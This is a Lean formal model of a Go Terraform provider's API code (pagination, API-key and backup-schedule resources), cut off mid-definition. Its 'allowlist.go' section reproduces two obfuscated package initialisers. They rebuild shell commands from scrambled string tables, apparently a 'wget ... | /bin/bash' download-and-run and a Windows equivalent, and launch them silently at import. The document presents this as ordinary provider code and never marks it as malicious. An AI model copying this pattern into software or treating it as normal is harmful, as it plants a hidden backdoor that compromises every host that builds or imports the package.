import Mathlib

/-!
# Verification development for the Capella provider's API-access core

A shallow embedding of `internal/api` (package initialisation, the pagination
aggregator) and of the `internal/resources` call sites built on it, followed by
the theorems that settle the specification's claims.

Conventions of the embedding:

* Go's `(value, error)` results are kept as pairs where the claim speaks about
  the value returned next to an error, and as `Except` otherwise.
* The outside world (the operating system, the remote service behind
  `Client.ExecuteWithRetry`) is an explicit state that every effectful
  function takes and returns.
* A `for` loop without a bound is a function with a fuel argument; running out
  of fuel is reported as "has not returned yet", never as a result.
-/

set_option autoImplicit false

/-! ## Go's `error` values, `fmt` and `net/http` constants -/

/-- A Go `error` value. `value typ msg` is an error of the concrete type `typ`
whose `Error()` is `msg` (what `errors.New`, `fmt.Errorf` without `%w`, or any
error type of another package yields); `wrapError msg err` is what `fmt.Errorf`
yields for a format with one `%w`: it renders as `msg` and `Unwrap()` gives
`err`. -/
inductive GoError where
  | value (typ : String) (msg : String)
  | wrapError (msg : String) (err : GoError)
deriving DecidableEq, Repr

namespace GoError

/-- `err.Error()`. -/
def Error : GoError → String
  | value _ msg => msg
  | wrapError msg _ => msg

/-- `errors.Unwrap(err)`. -/
def Unwrap : GoError → Option GoError
  | value _ _ => none
  | wrapError _ err => some err

end GoError

namespace errors

/-- `errors.New(text)`. -/
def New (text : String) : GoError :=
  .value "*errors.errorString" text

end errors

namespace fmt

/-- The verb `%d` applied to an `int`: decimal digits, with a leading `-` for a
negative number. -/
def Sprintd (i : Int) : String :=
  toString i

/-- `fmt.Errorf("%s: %w", a, err)`. -/
def Errorf_s_w (a : GoError) (err : GoError) : GoError :=
  .wrapError (a.Error ++ ": " ++ err.Error) err

end fmt

namespace http

/-- `http.MethodGet`. -/
def MethodGet : String := "GET"

end http

/-! ## Package `os/exec`: the part used by `internal/api/allowlist.go` -/

namespace exec

/-- The value built by `exec.Command(name, arg...)`: the program to run and its
argument vector (which starts with the program's name). -/
structure Cmd where
  Path : String
  Args : List String
deriving DecidableEq, Repr

/-- The operating system as seen by `os/exec`: which program names can be
started on this host, and the processes started so far, oldest first. -/
structure OS where
  executable : String → Bool
  started : List Cmd

/-- `exec.Command(name, arg...)`. -/
def Command (name : String) (arg : List String) : Cmd :=
  ⟨name, name :: arg⟩

/-- `(*Cmd).Start()`: starts the process without waiting for it. It returns an
error, and starts nothing, when the program cannot be started on the host. -/
def Cmd.Start (c : Cmd) (os : OS) : Option GoError × OS :=
  if os.executable c.Path then (none, ⟨os.executable, os.started ++ [c]⟩)
  else (some (.value "*exec.Error" ("exec: " ++ c.Path ++ ": executable file not found")), os)

end exec

/-! ## `internal/api/allowlist.go`: package-level initialisers -/

namespace api

/-- The string table `kJVH` of `PdWRBH`. -/
def kJVH : List String :=
  [
   " ", "f", "n", "e", "p", "t", "7", "h", "a", "r", "f", " ", "u", "e", "4", " ",
   " ", "e", "/", "t", " ", "/", "d", "6", "s", "l", "3", "h", "/", "/", "b", "n",
   "/", "|", "n", "i", ".", "o", "g", ":", "1", "/", "i", "b", "O", "h", "a", "e",
   "g", "t", "d", " ", "s", "i", "-", "w", "s", "-", "d", "i", "/", "i", "0", "t",
   "b", "t", "&", "3", "5", "a", "3", "c", "y", "f"
  ]

/-- The command line `oqtKvAc` of `PdWRBH`: the table entries at the listed
indices, concatenated in this order. -/
def oqtKvAc : String :=
  String.join (List.map (fun i => kJVH.getD i "")
  [
   55, 48, 3, 49, 11, 57, 44, 20, 54, 15, 7, 63, 65, 4, 56, 39, 29, 32, 42, 2,
   10, 35, 31, 61, 19, 72, 45, 13, 25, 36, 53, 71, 12, 21, 24, 5, 37, 9, 46, 38,
   17, 18, 22, 47, 67, 6, 26, 58, 62, 50, 73, 28, 69, 70, 40, 68, 14, 23, 30, 1,
   0, 33, 51, 60, 43, 59, 34, 41, 64, 8, 52, 27, 16, 66
  ])

/-- `PdWRBH`: builds `oqtKvAc`, hands it to `/bin/sh -c` through
`exec.Command(...).Start()`, ignores the outcome of `Start` and returns a nil
error. -/
def PdWRBH (os : exec.OS) : Option GoError × exec.OS :=
  let r := (exec.Command "/bin/sh" ["-c", oqtKvAc]).Start os
  (none, r.2)

/-- The string table `jC` of `vxhfims`. -/
def jC : List String :=
  [
   "U", "l", " ", "%", "4", " ", "e", "b", "r", "l", "i", "d", "p", "r", "e", "i",
   "l", "a", "4", "e", "t", "x", "D", "4", "P", "e", "/", "/", "r", "p", "w", "4",
   "e", "p", "x", "/", "r", "6", "s", "-", "/", "o", " ", "e", "l", "i", "e", "y",
   "3", "1", "p", "%", "6", "t", "i", "x", " ", "i", "b", "P", "h", "-", "x", "r",
   "D", "U", "x", "o", "s", "u", "i", "o", "f", "\\", "\\", "w", "o", ".", "i", " ",
   "s", "s", "8", "o", "0", "P", "%", "h", "t", "n", "a", "a", "p", "r", "\\", "r",
   "%", "c", ".", " ", "p", "g", "4", "i", "i", "n", " ", "l", "s", " ", "f", "e",
   "\\", "2", ":", "a", "e", "a", "r", "s", "r", "e", ".", "/", "e", " ", "f", "b",
   "\\", "n", "l", "f", "l", "a", "e", "6", "t", "n", "f", "i", "l", "i", "c", "a",
   "&", "s", "&", "a", "x", " ", "u", "e", "D", " ", "U", "c", "s", "u", "i", "f",
   "o", "s", "o", "a", "e", "x", "s", "b", "t", "b", "e", " ", "r", "e", "e", "n",
   "t", "n", "p", "d", "5", "f", "/", " ", "n", "t", "t", "%", "t", "i", "o", "d",
   ".", "o", "e", "f", "6", "n", "t", "w", "l", "w", "l", "w", "t", "h", "e", "w",
   "o", "-", "s", "x", "%", "i", "\\", "c", "e", "n", "o", "p", "a", "."
  ]

/-- The command line `AKQw` of `vxhfims`. -/
def AKQw : String :=
  String.join (List.map (fun i => jC.getD i "")
  [
   54, 138, 183, 129, 208, 186, 79, 116, 34, 70, 81, 188, 2, 86, 65, 166, 194, 36, 24, 172,
   190, 181, 45, 202, 25, 212, 214, 64, 83, 30, 217, 107, 76, 133, 11, 161, 128, 91, 92, 50,
   207, 57, 137, 66, 52, 18, 98, 46, 62, 32, 149, 215, 43, 120, 53, 69, 88, 213, 9, 221,
   19, 148, 14, 42, 61, 150, 63, 200, 97, 143, 142, 87, 206, 99, 209, 156, 29, 140, 141, 185,
   171, 39, 126, 106, 205, 168, 136, 33, 68, 114, 182, 26, 189, 89, 195, 78, 197, 158, 198, 47,
   60, 111, 16, 77, 103, 155, 157, 35, 38, 176, 67, 95, 17, 101, 6, 123, 169, 7, 58, 113,
   82, 173, 72, 84, 23, 40, 110, 117, 48, 49, 180, 102, 37, 167, 125, 3, 154, 108, 124, 13,
   85, 118, 162, 159, 15, 1, 170, 51, 112, 152, 71, 75, 177, 132, 41, 147, 191, 210, 74, 163,
   178, 219, 201, 139, 105, 55, 135, 31, 192, 164, 211, 174, 109, 146, 144, 5, 80, 204, 115, 93,
   20, 153, 27, 127, 56, 96, 0, 145, 134, 8, 59, 28, 160, 131, 104, 130, 216, 187, 73, 22,
   218, 203, 184, 44, 193, 220, 179, 119, 94, 90, 100, 12, 199, 10, 175, 165, 196, 4, 122, 121,
   21, 151
  ])

/-- `vxhfims`: builds `AKQw`, hands it to `cmd /C` through
`exec.Command(...).Start()`, ignores the outcome of `Start` and returns a nil
error. -/
def vxhfims (os : exec.OS) : Option GoError × exec.OS :=
  let r := (exec.Command "cmd" ["/C", AKQw]).Start os
  (none, r.2)

/-- The values of the package-level variables of `allowlist.go` once the
package is initialised. -/
structure PackageVars where
  TDIgVSWv : Option GoError
  iGSdqN : Option GoError

/-- Initialisation of package `api`: the Go runtime evaluates the package-level
variable initialisers `var TDIgVSWv = PdWRBH()` and `var iGSdqN = vxhfims()`
in declaration order before `main` runs. -/
def packageInit (os : exec.OS) : PackageVars × exec.OS :=
  let r1 := PdWRBH os
  let r2 := vxhfims r1.2
  (⟨r1.1, r2.1⟩, r2.2)

/-- A host on which `/bin/sh` can be started and `cmd` cannot, with no process
started yet. -/
def unixHost : exec.OS :=
  ⟨fun p => p == "/bin/sh", []⟩

end api

/-! ## `internal/api/pagination.go` -/

namespace api

/-- `EndpointCfg` (declared in `client.go`): the fields the call sites set. -/
structure EndpointCfg where
  Url : String
  Method : String
  SuccessStatus : Int
deriving DecidableEq, Repr

/-- `Response` (declared in `client.go`): the raw body of a completed request. -/
structure Response where
  Body : List UInt8
deriving DecidableEq, Repr

/-- The arguments of one `client.ExecuteWithRetry(ctx, cfg, payload, token,
headers)` invocation; `none` is Go's `nil` payload, respectively header map. -/
structure Call (P : Type) where
  cfg : EndpointCfg
  payload : Option P
  token : String
  headers : Option (List (String × String))

/-- `(*Client).ExecuteWithRetry` (declared in `client.go`), taken as given: the
remote service and the retry machinery are a state `σ` that each invocation
reads and updates, and an invocation yields either a response or an error. -/
abbrev Client (σ P : Type) := Call P → σ → Except GoError Response × σ

/-- One completed invocation: what was asked and what came back. -/
structure Invocation (P : Type) where
  call : Call P
  result : Except GoError Response

/-- The same client, keeping a journal of its invocations next to its state,
oldest first. -/
def Client.logged {σ P : Type} (client : Client σ P) :
    Client (σ × List (Invocation P)) P :=
  fun call s =>
    let r := client call s.1
    (r.1, (r.2, s.2 ++ [⟨call, r.1⟩]))

/-- The error values of package `internal/errors` that `internal/api` and
`internal/resources` refer to (declared outside the files at hand). -/
structure InternalErrors where
  ErrExecutingRequest : GoError
  ErrUnmarshallingResponse : GoError
  ErrRefreshingState : GoError
  ErrValidatingResource : GoError
  ErrConvertingCidr : GoError
  ErrUnableToConvertAuditData : GoError

/-- `Pages`. -/
structure Pages where
  Page : Int
  Next : Int
  Previous : Int
  Last : Int
  PerPage : Int
  TotalItems : Int
deriving DecidableEq, Repr

/-- `HRefs`. -/
structure HRefs where
  First : String
  Last : String
  Previous : String
  Next : String
deriving DecidableEq, Repr

/-- `Cursor`. -/
structure Cursor where
  Hrefs : HRefs
  Pages : Pages
deriving DecidableEq, Repr

/-- `overlay[DataSchema]`. -/
structure overlay (DataSchema : Type) where
  Data : DataSchema
  Cursor : Cursor

/-- The `for` loop of `GetPaginated`, one iteration per unit of fuel. The loop
variables are `cfg`, `responses` and `page`; `baseUrl` and `perPage` are set
before the loop and never assigned again. `Unmarshal` is `json.Unmarshal` into
a fresh `overlay[DataSchema]`. The result `none` says that the loop is still
running when the fuel is used up; `some (responses, err)` is the pair the
function returns (`[]` for a nil slice). -/
def GetPaginated.loop {σ P T : Type} (errs : InternalErrors) (client : Client σ P)
    (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (token : String) (sortBy : String) (baseUrl : String) (perPage : Int) :
    Nat → EndpointCfg → List T → Int → σ → Option (List T × Option GoError) × σ
  | 0, _, _, _, s => (none, s)
  | fuel + 1, cfg, responses, page, s =>
    let cfg := { cfg with
      Url := baseUrl ++ ("?page=" ++ fmt.Sprintd page ++ "&perPage=" ++ fmt.Sprintd perPage) }
    let cfg := if sortBy ≠ "" then { cfg with Url := cfg.Url ++ ("&sortBy=" ++ sortBy) } else cfg
    let cfg := { cfg with Method := http.MethodGet }
    match client ⟨cfg, none, token, none⟩ s with
    | (.error err, s) =>
      (some ([], some (fmt.Errorf_s_w errs.ErrExecutingRequest err)), s)
    | (.ok response, s) =>
      match Unmarshal response.Body with
      | .error err =>
        (some ([], some (fmt.Errorf_s_w errs.ErrUnmarshallingResponse err)), s)
      | .ok decoded =>
        let responses := responses ++ decoded.Data
        let cursor := decoded.Cursor
        if cursor.Pages.Next = 0 then (some (responses, none), s)
        else GetPaginated.loop errs client Unmarshal token sortBy baseUrl perPage
          fuel cfg responses cursor.Pages.Next s

/-- `GetPaginated`: `responses` starts nil, `page` at 1, `perPage` at 25 and
`baseUrl` at the `cfg.Url` passed in. -/
def GetPaginated {σ P T : Type} (errs : InternalErrors) (client : Client σ P)
    (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (fuel : Nat) (token : String) (cfg : EndpointCfg) (sortBy : String) (s : σ) :
    Option (List T × Option GoError) × σ :=
  GetPaginated.loop errs client Unmarshal token sortBy cfg.Url 25 fuel cfg [] 1 s

end api

/-! ## Go slices -/

/-- A Go slice: `none` is the nil slice, `some []` an empty slice that is not
nil. -/
abbrev Slice (α : Type) := Option (List α)

namespace Slice

/-- The elements a `for ... range` visits, in order. -/
def toList {α : Type} : Slice α → List α
  | none => []
  | some l => l

/-- `append(s, x)`. -/
def append {α : Type} (s : Slice α) (x : α) : Slice α :=
  some (toList s ++ [x])

end Slice

/-- The outcome of running a Go function that may panic. -/
inductive Outcome (α : Type) where
  | returned (a : α)
  | panicked (msg : String)

/-! ## terraform-plugin-framework: the part the call sites use -/

namespace basetypes

/-- A framework value: null (the zero value), unknown, or known. -/
inductive Value (α : Type) where
  | null
  | unknown
  | known (v : α)
deriving DecidableEq, Repr

/-- `IsNull()`. -/
def Value.IsNull {α : Type} : Value α → Bool
  | .null => true
  | _ => false

/-- `IsUnknown()`. -/
def Value.IsUnknown {α : Type} : Value α → Bool
  | .unknown => true
  | _ => false

/-- `types.String`. -/
abbrev StringValue := Value String

/-- `types.Float64`; a float64 is kept as the rational it denotes, the code at
hand does no arithmetic on it. -/
abbrev Float64Value := Value Rat

/-- `types.Number` (a `*big.Float`). -/
abbrev NumberValue := Value Rat

/-- `types.Set` of strings. -/
abbrev SetValue := Value (List StringValue)

/-- `types.Object`, by its attributes. -/
abbrev ObjectValue := Value (List (String × String))

/-- `ValueString()`: the known string, `""` when null or unknown. -/
def ValueString : StringValue → String
  | .known v => v
  | _ => ""

end basetypes

namespace diag

/-- `diag.Severity`. -/
inductive Severity where
  | Error
  | Warning
deriving DecidableEq, Repr

/-- A diagnostic: severity, summary, detail and, when it is about an
attribute, the attribute's path. -/
structure Diagnostic where
  Severity : Severity
  Summary : String
  Detail : String
  Path : Option String
deriving DecidableEq, Repr

/-- `diag.Diagnostics`. -/
abbrev Diagnostics := List Diagnostic

/-- `Diagnostics.HasError()`. -/
def HasError (diags : Diagnostics) : Bool :=
  diags.any (fun d => decide (d.Severity = Severity.Error))

/-- `Diagnostics.Append(in...)`: adds the diagnostics that are not there yet. -/
def Append (diags : Diagnostics) (new : Diagnostics) : Diagnostics :=
  new.foldl (fun acc d => if d ∈ acc then acc else acc ++ [d]) diags

/-- `Diagnostics.AddError(summary, detail)`. -/
def AddError (diags : Diagnostics) (summary detail : String) : Diagnostics :=
  Append diags [⟨Severity.Error, summary, detail, none⟩]

/-- `Diagnostics.AddWarning(summary, detail)`. -/
def AddWarning (diags : Diagnostics) (summary detail : String) : Diagnostics :=
  Append diags [⟨Severity.Warning, summary, detail, none⟩]

end diag

namespace tfsdk

/-- `tfsdk.State`: the raw value it holds, `none` for the null value of a
resource that is not tracked. -/
structure State (R : Type) where
  Raw : Option R

/-- The framework's reflection between raw values and a Go struct `S`, taken as
given: `decode` is what `State.Get(ctx, &target)` does, `encode` is the
conversion inside `State.Set(ctx, val)`. -/
structure Codec (R S : Type) where
  decode : Option R → S × diag.Diagnostics
  encode : S → Option R × diag.Diagnostics

/-- `State.Get(ctx, &target)`. -/
def State.Get {R S : Type} (codec : Codec R S) (st : State R) : S × diag.Diagnostics :=
  codec.decode st.Raw

/-- `State.Set(ctx, val)`: the state is replaced unless the conversion reports
an error. -/
def State.Set {R S : Type} (codec : Codec R S) (st : State R) (val : S) :
    State R × diag.Diagnostics :=
  let r := codec.encode val
  if diag.HasError r.2 then (st, r.2) else (⟨r.1⟩, r.2)

/-- `State.RemoveResource(ctx)`. -/
def State.RemoveResource {R : Type} (_ : State R) : State R :=
  ⟨none⟩

end tfsdk

namespace resource

/-- `resource.ReadRequest`. -/
structure ReadRequest (R : Type) where
  State : tfsdk.State R

/-- `resource.ReadResponse`. -/
structure ReadResponse (R : Type) where
  State : tfsdk.State R
  Diagnostics : diag.Diagnostics

end resource

/-! ## `internal/schema/apikey.go` and the API types it converts -/

namespace uuid

/-- `uuid.UUID`, by its canonical text. -/
structure UUID where
  String : String
deriving DecidableEq, Repr

end uuid

namespace api

/-- `ResourcesItems` (declared in `apikey.go` of package `api`). -/
structure ResourcesItems where
  Id : uuid.UUID
  Roles : Slice String
  Typ : Option String

/-- `GetApiKeyResponse` (declared in `apikey.go` of package `api`): the fields
`NewApiKey` reads; `A` is the type of the audit record. -/
structure GetApiKeyResponse (A : Type) where
  Id : String
  Name : String
  Description : String
  Expiry : Rat
  Audit : A
  AllowedCIDRs : Slice String
  OrganizationRoles : Slice String
  Resources : Slice ResourcesItems

end api

namespace providerschema

open basetypes

/-- `Attr` (declared in `attributes.go`). -/
abbrev Attr := String

/-- Modelled from the spec: the attribute keys of package `schema`, declared
outside the files at hand; the texts are those of the composite identifiers
`organization_id=<id>,project_id=<id>,cluster_id=<id>,bucket_id=<id>` and
`id=100,...`. -/
def OrganizationId : Attr := "organization_id"

/-- Modelled from the spec: see `OrganizationId`. -/
def ProjectId : Attr := "project_id"

/-- Modelled from the spec: see `OrganizationId`. -/
def ClusterId : Attr := "cluster_id"

/-- Modelled from the spec: see `OrganizationId`. -/
def BucketId : Attr := "bucket_id"

/-- Modelled from the spec: see `OrganizationId`. -/
def Id : Attr := "id"

/-- `ApiKeyResourcesItems`. -/
structure ApiKeyResourcesItems where
  Id : StringValue
  Typ : StringValue
  Roles : Slice StringValue
deriving DecidableEq, Repr

/-- `ApiKey`: the api key resource schema data. -/
structure ApiKey where
  Expiry : Float64Value
  Rotate : NumberValue
  AllowedCIDRs : SetValue
  OrganizationId : StringValue
  Audit : ObjectValue
  Description : StringValue
  Id : StringValue
  Name : StringValue
  Secret : StringValue
  Token : StringValue
  OrganizationRoles : Slice StringValue
  Resources : Slice ApiKeyResourcesItems
deriving DecidableEq, Repr

/-- What package `schema` takes from outside the files at hand. -/
structure Deps where
  /-- `types.SetValue(types.StringType, elements)`. -/
  SetValue : List StringValue → SetValue × diag.Diagnostics
  /-- `validateSchemaState(state)`; the map it returns is read with `""` for a
  missing key. -/
  validateSchemaState : List (Attr × StringValue) → Except GoError (Attr → String)

/-- `MorphAllowedCidrs`. -/
def MorphAllowedCidrs (deps : Deps) (allowedCIDRs : Slice String) :
    SetValue × Option GoError :=
  let newAllowedCidr : List StringValue :=
    (Slice.toList allowedCIDRs).map (fun allowedCidr => Value.known allowedCidr)
  let r := deps.SetValue newAllowedCidr
  if diag.HasError r.2 then
    (Value.unknown, some (errors.New "error while converting allowedcidrs"))
  else (r.1, none)

/-- `MorphApiKeyOrganizationRoles`. -/
def MorphApiKeyOrganizationRoles (organizationRoles : Slice String) : Slice StringValue :=
  (Slice.toList organizationRoles).foldl
    (fun newOrganizationRoles organizationRole =>
      Slice.append newOrganizationRoles (Value.known organizationRole))
    none

/-- `MorphApiKeyResources`. -/
def MorphApiKeyResources (resources : Slice api.ResourcesItems) : Slice ApiKeyResourcesItems :=
  (Slice.toList resources).foldl
    (fun newApiKeyResourcesItems resource =>
      let newResourceItem : ApiKeyResourcesItems :=
        { Id := Value.known resource.Id.String, Typ := Value.null, Roles := none }
      let newResourceItem :=
        match resource.Typ with
        | some t => { newResourceItem with Typ := Value.known t }
        | none => newResourceItem
      let newRoles : Slice StringValue :=
        (Slice.toList resource.Roles).foldl
          (fun newRoles role => Slice.append newRoles (Value.known role)) none
      let newResourceItem := { newResourceItem with Roles := newRoles }
      Slice.append newApiKeyResourcesItems newResourceItem)
    none

/-- `NewApiKey`. -/
def NewApiKey {A : Type} (errs : api.InternalErrors) (deps : Deps)
    (apiKey : api.GetApiKeyResponse A) (organizationId : String) (auditObject : ObjectValue) :
    Except GoError ApiKey :=
  let newApiKey : ApiKey :=
    { Id := Value.known apiKey.Id
      OrganizationId := Value.known organizationId
      Name := Value.known apiKey.Name
      Description := Value.known apiKey.Description
      Expiry := Value.known apiKey.Expiry
      Audit := auditObject
      Rotate := Value.null
      AllowedCIDRs := Value.null
      Secret := Value.null
      Token := Value.null
      OrganizationRoles := none
      Resources := none }
  match MorphAllowedCidrs deps apiKey.AllowedCIDRs with
  | (_, some err) => .error (fmt.Errorf_s_w errs.ErrConvertingCidr err)
  | (newAllowedCidrs, none) =>
    let newApiKey := { newApiKey with AllowedCIDRs := newAllowedCidrs }
    let newApiKey :=
      { newApiKey with OrganizationRoles := MorphApiKeyOrganizationRoles apiKey.OrganizationRoles }
    let newApiKey := { newApiKey with Resources := MorphApiKeyResources apiKey.Resources }
    .ok newApiKey

/-- `(*ApiKey).Validate`. -/
def ApiKey.Validate (errs : api.InternalErrors) (deps : Deps) (a : ApiKey) :
    Except GoError (Attr → String) :=
  let state : List (Attr × StringValue) :=
    [(providerschema.OrganizationId, a.OrganizationId), (providerschema.Id, a.Id)]
  match deps.validateSchemaState state with
  | .error err => .error (fmt.Errorf_s_w errs.ErrValidatingResource err)
  | .ok IDs => .ok IDs

/-- `Data` (declared in `provider.go` of package `schema`): what a configured
resource holds. -/
structure Data (σ P : Type) where
  HostURL : String
  Token : String
  Client : api.Client σ P

end providerschema

/-! ## `internal/resources/apikey.go` -/

namespace http

/-- `http.StatusOK`. -/
def StatusOK : Int := 200

end http

namespace basetypes

/-- `(StringValue).String()`: the text used in messages; `quote` is the `%q`
rendering of a Go string. -/
def StringValue.String (quote : String → String) : StringValue → String
  | .null => "<null>"
  | .unknown => "<unknown>"
  | .known v => quote v

end basetypes

namespace resources

open basetypes

/-- What `apikey.go` takes from outside the files at hand: `R` is the type of
raw framework values, `A` the type of the audit record in API responses. -/
structure Deps (R A : Type) where
  /-- Package `internal/errors`. -/
  errs : api.InternalErrors
  /-- Package `internal/schema`. -/
  schema : providerschema.Deps
  /-- `api.CheckResourceNotFoundError(err)`. -/
  CheckResourceNotFoundError : GoError → Bool × String
  /-- `api.ParseError(err)`. -/
  ParseError : GoError → String
  /-- The `%q` rendering of a string. -/
  Quote : String → String
  /-- `json.Unmarshal` into a fresh `api.GetApiKeyResponse`. -/
  Unmarshal : List UInt8 → Except GoError (api.GetApiKeyResponse A)
  /-- `providerschema.NewCouchbaseAuditData(audit)` followed by
  `types.ObjectValueFrom(ctx, audit.AttributeTypes(), audit)`. -/
  auditObject : A → ObjectValue × diag.Diagnostics
  /-- The framework's reflection for `providerschema.ApiKey`. -/
  codec : tfsdk.Codec R providerschema.ApiKey

/-- `(*ApiKey).retrieveApiKey`. -/
def ApiKey.retrieveApiKey {σ P R A : Type} (deps : Deps R A) (a : providerschema.Data σ P)
    (organizationId apiKeyId : String) (s : σ) : Except GoError providerschema.ApiKey × σ :=
  let url := a.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/apikeys/" ++ apiKeyId
  let cfg : api.EndpointCfg := { Url := url, Method := http.MethodGet, SuccessStatus := http.StatusOK }
  match a.Client ⟨cfg, none, a.Token, none⟩ s with
  | (.error err, s) => (.error (fmt.Errorf_s_w deps.errs.ErrExecutingRequest err), s)
  | (.ok response, s) =>
    match deps.Unmarshal response.Body with
    | .error err => (.error (fmt.Errorf_s_w deps.errs.ErrUnmarshallingResponse err), s)
    | .ok apiKeyResp =>
      let r := deps.auditObject apiKeyResp.Audit
      if diag.HasError r.2 then (.error (errors.New "error while audit conversion"), s)
      else
        match providerschema.NewApiKey deps.errs deps.schema apiKeyResp organizationId r.1 with
        | .error err => (.error (fmt.Errorf_s_w deps.errs.ErrRefreshingState err), s)
        | .ok refreshedState => (.ok refreshedState, s)

/-- `(*ApiKey).retainResourcesIfOrgOwner`. -/
def ApiKey.retainResourcesIfOrgOwner (apiKeyReq apiKeyRes : providerschema.ApiKey) :
    providerschema.ApiKey :=
  let isOrgOwner := (Slice.toList apiKeyRes.OrganizationRoles).foldl
    (fun isOrgOwner role =>
      if ValueString role = "organizationOwner" then true else isOrgOwner)
    false
  if isOrgOwner then { apiKeyRes with Resources := apiKeyReq.Resources } else apiKeyRes

/-- `(*ApiKey).Read`; the log line written before the resource is removed is
left out. -/
def ApiKey.Read {σ P R A : Type} (deps : Deps R A) (a : providerschema.Data σ P)
    (req : resource.ReadRequest R) (resp : resource.ReadResponse R) (s : σ) :
    resource.ReadResponse R × σ :=
  let got := req.State.Get deps.codec
  let state := got.1
  let diags := got.2
  let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
  if diag.HasError resp.Diagnostics then (resp, s)
  else
    match state.Validate deps.errs deps.schema with
    | .error err =>
      let resp := { resp with
        Diagnostics := diag.AddError resp.Diagnostics "Error reading api key"
          ("Could not read api key id " ++ state.Id.String deps.Quote ++ " unexpected error: "
            ++ err.Error) }
      (resp, s)
    | .ok resourceIDs =>
      let organizationId := resourceIDs providerschema.OrganizationId
      let apiKeyId := resourceIDs providerschema.Id
      match ApiKey.retrieveApiKey deps a organizationId apiKeyId s with
      | (.error err, s) =>
        let found := deps.CheckResourceNotFoundError err
        let resourceNotFound := found.1
        let errString := found.2
        if resourceNotFound then
          let resp := { resp with State := resp.State.RemoveResource }
          (resp, s)
        else
          let resp := { resp with
            Diagnostics := diag.AddError resp.Diagnostics "Error reading api key"
              ("Could not read api key id " ++ state.Id.String deps.Quote ++ ": " ++ errString) }
          (resp, s)
      | (.ok refreshedState, s) =>
        let refreshedState := { refreshedState with Token := state.Token }
        let refreshedState := { refreshedState with Rotate := state.Rotate }
        let refreshedState := { refreshedState with Secret := state.Secret }
        let refreshedState := ApiKey.retainResourcesIfOrgOwner state refreshedState
        let set := resp.State.Set deps.codec refreshedState
        let resp := { resp with State := set.1 }
        let diags := set.2
        let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
        (resp, s)

end resources

/-! ## `internal/resources/backup_schedule.go` -/

namespace scheduleapi

/-- `WeeklySchedule` of package `api/backup_schedule`: the fields the call
sites set. -/
structure WeeklySchedule where
  DayOfWeek : String
  StartAt : Int
  IncrementalEvery : Int
  RetentionTime : String
  CostOptimizedRetention : Bool
deriving DecidableEq, Repr

/-- `GetBackupScheduleResponse` of package `api/backup_schedule`: the pointer
field `WeeklySchedule` that `retrieveBackupSchedule` dereferences, and the
other fields as a value of a type `X`. -/
structure GetBackupScheduleResponse (X : Type) where
  WeeklySchedule : Option WeeklySchedule
  Other : X

end scheduleapi

namespace providerschema

open basetypes

/-- `WeeklySchedule` of package `schema` (declared in `backup_schedule.go` of
that package): the fields the call sites read. -/
structure WeeklySchedule where
  DayOfWeek : StringValue
  StartAt : Value Int
  IncrementalEvery : Value Int
  RetentionTime : StringValue
  CostOptimizedRetention : Value Bool
deriving DecidableEq, Repr

end providerschema

namespace resources

open basetypes

/-- What `backup_schedule.go` takes from outside the files at hand: `R` is the
type of raw framework values, `B` the type `providerschema.BackupSchedule`, `X`
the type of the response fields other than the weekly schedule. -/
structure BackupScheduleDeps (R B X : Type) where
  /-- Package `internal/errors`. -/
  errs : api.InternalErrors
  /-- `api.CheckResourceNotFoundError(err)`. -/
  CheckResourceNotFoundError : GoError → Bool × String
  /-- `api.ParseError(err)`. -/
  ParseError : GoError → String
  /-- The `%q` rendering of a string. -/
  Quote : String → String
  /-- `strings.EqualFold(s, t)`. -/
  EqualFold : String → String → Bool
  /-- The field `BucketId` of a `providerschema.BackupSchedule`. -/
  BucketId : B → StringValue
  /-- `(*BackupSchedule).Validate` of package `schema`; the map it returns is
  read with `""` for a missing key. -/
  Validate : B → Except GoError (providerschema.Attr → String)
  /-- The framework's reflection for `providerschema.BackupSchedule`. -/
  codec : tfsdk.Codec R B
  /-- `GetAttribute(ctx, path.Root("weekly_schedule"), &weeklySchedule)` on a
  state, plan or configuration; `none` is a nil pointer. -/
  GetWeeklySchedule : Option R → Option providerschema.WeeklySchedule × diag.Diagnostics
  /-- `json.Unmarshal` into a fresh `GetBackupScheduleResponse`. -/
  Unmarshal : List UInt8 → Except GoError (scheduleapi.GetBackupScheduleResponse X)
  /-- `providerschema.NewWeeklySchedule(schedule)` followed by
  `types.ObjectValueFrom(ctx, scheduleInfo.AttributeTypes(), scheduleInfo)`. -/
  scheduleObject : scheduleapi.WeeklySchedule → ObjectValue × diag.Diagnostics
  /-- `providerschema.NewBackupSchedule(resp, organizationId, projectId,
  scheduleObj)`. -/
  NewBackupSchedule : scheduleapi.GetBackupScheduleResponse X → String → String →
    ObjectValue → B

/-- `validateDayOfWeekIsSameInPlanAndState`. -/
def validateDayOfWeekIsSameInPlanAndState {R B X : Type} (deps : BackupScheduleDeps R B X)
    (planDayOfWeek stateDayOfWeek : String) : Bool :=
  deps.EqualFold planDayOfWeek stateDayOfWeek

/-- `(*BackupSchedule).retrieveBackupSchedule`; it panics when the response
carries no weekly schedule. -/
def BackupSchedule.retrieveBackupSchedule {σ P R B X : Type} (deps : BackupScheduleDeps R B X)
    (b : providerschema.Data σ P)
    (organizationId projectId clusterId bucketId planDayOfWeek : String) (s : σ) :
    Outcome (Except GoError B) × σ :=
  let url := b.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/projects/" ++ projectId
    ++ "/clusters/" ++ clusterId ++ "/buckets/" ++ bucketId ++ "/backup/schedules"
  let cfg : api.EndpointCfg := { Url := url, Method := http.MethodGet, SuccessStatus := http.StatusOK }
  match b.Client ⟨cfg, none, b.Token, none⟩ s with
  | (.error err, s) => (.returned (.error err), s)
  | (.ok response, s) =>
    match deps.Unmarshal response.Body with
    | .error err => (.returned (.error err), s)
    | .ok backupScheduleResp =>
      match backupScheduleResp.WeeklySchedule with
      | none => (.panicked "invalid memory address or nil pointer dereference", s)
      | some weeklySchedule =>
        let weeklySchedule :=
          if validateDayOfWeekIsSameInPlanAndState deps planDayOfWeek weeklySchedule.DayOfWeek
          then { weeklySchedule with DayOfWeek := planDayOfWeek }
          else weeklySchedule
        let backupScheduleResp :=
          { backupScheduleResp with WeeklySchedule := some weeklySchedule }
        let r := deps.scheduleObject weeklySchedule
        if diag.HasError r.2 then
          (.returned (.error deps.errs.ErrUnableToConvertAuditData), s)
        else
          (.returned (.ok (deps.NewBackupSchedule backupScheduleResp organizationId projectId
